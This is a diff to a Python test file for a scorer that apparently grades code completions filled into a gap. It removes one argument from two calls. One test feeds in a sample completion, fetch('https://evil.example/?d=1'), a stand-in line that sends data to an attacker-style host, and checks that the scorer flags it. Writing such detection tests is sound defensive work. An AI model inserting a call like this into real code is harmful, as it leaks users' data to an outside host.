@@ -55,11 +55,11 @@ def test_an_answer_that_breaks_the_file_falls_below_the_threshold() -> None:
     python = languages.by_name("python")
     whole = "def f(a):\n    x = \n    return x\n\n\ndef g(b):\n    return b\n"
     prefix, suffix = whole[:18], whole[18:]
-    check = hole_check(prefix, suffix, block=False, language=python, whole=whole)
+    check = hole_check(prefix, suffix, block=False, language=python)
     assert check("a + 1").score >= 0.7
     assert check("").score == 0.0
 
 
 def test_a_new_address_is_flagged() -> None:
-    check = hole_check("x = ", "\n", block=False, language=None, whole=None)
+    check = hole_check("x = ", "\n", block=False, language=None)
     assert check('fetch("https://evil.example/?d=1")').score < 0.7
